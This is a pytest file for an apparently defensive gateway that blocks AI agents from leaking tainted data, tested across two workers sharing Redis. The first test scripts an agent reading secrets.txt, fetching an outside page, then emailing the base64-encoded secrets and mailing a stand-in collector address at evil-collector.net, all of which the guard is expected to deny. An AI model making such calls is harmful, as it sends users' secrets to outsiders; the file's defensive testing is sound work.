"""The shared flow store: two gateway workers see one session's taint (real Redis)."""

from __future__ import annotations

import base64
import uuid
from pathlib import Path

import pytest
from flowkit import POLICY, SECRETS_TXT, make_wall

from shieldwall import Denied, ToolCall, Verdict
from shieldwall.flow.fingerprints import Fingerprinter
from shieldwall.flow.store import RedisFlowStore
from shieldwall.stores import StoreError

pytestmark = pytest.mark.redis

REDIS_POLICY = POLICY + """
  store: {backend: redis, prefix: "sw-test-flow:"}
"""


def test_taint_recorded_by_one_worker_blocks_the_sink_on_another(tmp_path: Path) -> None:
    sid = "ses_" + uuid.uuid4().hex
    w1, _ = make_wall(tmp_path, REDIS_POLICY)
    w2, sent2 = make_wall(tmp_path, REDIS_POLICY)
    try:
        with w1.session(agent="helper", role="assistant", session_id=sid) as s1:
            s1.call("read_file", {"path": "secrets.txt"})
            s1.call("fetch_page", {"url": "https://weather.example/lisbon"})
        with w2.session(agent="helper", role="assistant", session_id=sid) as s2:
            with pytest.raises(Denied) as e:
                s2.call("send_email", {"to": "me@example.com",
                                       "body": base64.b64encode(SECRETS_TXT.encode()).decode()})
            assert "flow.confidential_to_external" in e.value.rules
            assert "flow.lethal_trifecta" in e.value.rules
            d = s2.decide(ToolCall("send_email", {"to": "exfil.bot@evil-collector.net",
                                                  "body": "hi"}))
            assert "flow.untrusted_target" in d.rules()
        assert sent2 == []
    finally:
        RedisFlowStore(sid, prefix="sw-test-flow:").clear()


def test_two_sources_sharing_a_fingerprint_are_both_kept() -> None:
    sid = "ses_" + uuid.uuid4().hex
    st = RedisFlowStore(sid, prefix="sw-test-flow:")
    fp = Fingerprinter()
    text = "the Falcon project revenue target is 4.2 million"
    try:
        st.record("search_docs", 1, True, fp.seen(text), set())
        st.record("read_file", 2, True, fp.seen(text), set())
        tools = {m.source.tool for m in st.match(fp.query(text))}
        assert tools == {"search_docs", "read_file"}
        assert st.flags() == (False, 2)
    finally:
        st.clear()


def test_unreachable_redis_denies(tmp_path: Path) -> None:
    bad = POLICY + """
  store: {backend: redis, url: "redis://127.0.0.1:1/0"}
"""
    wall, _ = make_wall(tmp_path, bad)
    with wall.session(agent="helper", role="assistant") as s:
        with pytest.raises(Denied) as e:
            s.call("read_file", {"path": "secrets.txt"})  # commit fails: fail closed
        assert "gate.layer_error" in e.value.rules
    with pytest.raises(StoreError):
        RedisFlowStore("x", url="redis://127.0.0.1:1/0").flags()
    assert Verdict.DENY
